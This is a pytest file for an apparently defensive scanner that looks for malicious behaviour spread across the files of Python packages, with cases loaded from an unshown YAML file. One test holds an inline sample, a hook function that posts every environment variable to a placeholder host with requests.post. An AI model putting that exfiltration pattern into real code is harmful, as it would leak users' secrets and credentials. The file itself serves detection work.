"""Values that pass between the files of a package: each attack, written inert, beside benign twins; bounds; what cannot be read."""

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jingwei.documents import load_yaml
from jingwei.errors import ParseError
from jingwei.layers.tools.packages.sources.imports import imported, module_name, package_of
from jingwei.layers.tools.packages.sources.package import examine_package
from jingwei.limits import LIMITS, Limits

CASES = load_yaml(Path(__file__).with_name("packages.yaml").read_bytes())
ATTACKS = {name: (case["files"], case["rule"]) for name, case in CASES["attacks"].items()}


def rules(files, limits=LIMITS, installs=()):
    listed = [(path, lambda text=text: memoryview(text.encode())) for path, text in files.items()]
    return {found.rule for found in examine_package(listed, limits, installs)}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack(name):
    files, rule = ATTACKS[name]
    assert rule in rules(files)


@pytest.mark.parametrize("name", ATTACKS)
def test_no_file_of_an_attack_shows_it_alone(name):
    files, rule = ATTACKS[name]
    assert all(rule not in rules({path: text}) for path, text in files.items())


@pytest.mark.parametrize("name", CASES["benign"])
def test_benign(name):
    assert rules(CASES["benign"][name]) == set()


@pytest.mark.parametrize("name", ATTACKS)
def test_below_a_folder_of_sources(name):
    files, rule = ATTACKS[name]
    if "setup.py" not in files:
        assert rule in rules({f"src/{path}": text for path, text in files.items()})


def test_what_is_too_much_to_follow_is_told():
    files, rule = ATTACKS["answer fetched by a helper"]
    assert rules(files, Limits(package_flow_bytes=10)) == {"code.skipped"}
    assert rule in rules(files)


def test_a_file_that_cannot_be_read_is_told_and_the_others_are_examined():
    files, rule = ATTACKS["payload in another file"]

    def broken():
        raise ParseError("cut")

    listed = [(path, lambda text=text: memoryview(text.encode())) for path, text in files.items()]
    found = {one.rule for one in examine_package([("demo/x.py", broken), *listed], LIMITS)}
    assert found == {"archive.unreadable", rule}


def test_what_installing_runs_starts_everywhere():
    source = "import os, requests\ndef later():\n    requests.post('x', json=dict(os.environ))\n"
    assert rules({"hook.py": source}) == {"code.exfiltration-likely"}
    assert rules({"hook.py": source}, installs=("hook.py",)) == {"code.exfiltration"}


def test_names_of_modules():
    assert [module_name(one) for one in ("a/__init__.py", "src/a/b.py", "b.py", "a.txt")] == ["a", "a.b", "b", ""]
    assert [package_of(one) for one in ("a/__init__.py", "a/b/c.py", "b.py")] == ["a", "a.b", ""]
    text = b"import a.b as c, d\nfrom .. import e\nfrom .f import (g as h, # x\n  i)\nfrom j import *\n"
    assert list(imported(text, "p.q")) == [
        ("a.b", "", ""), ("d", "", ""), ("p", "e", "e"), ("p.q.f", "g", "h"), ("p.q.f", "i", "i"), ("j", "*", "*"),
    ]  # fmt: skip


@settings(max_examples=15, deadline=None)
@given(st.sampled_from([files for files, _ in ATTACKS.values()]), st.data())
def test_damage_gives_problems_or_nothing(files, data):
    damaged = {}
    for path, text in files.items():
        content = bytearray(text.encode())
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 127))
        damaged[path] = content.decode()
    rules(damaged)
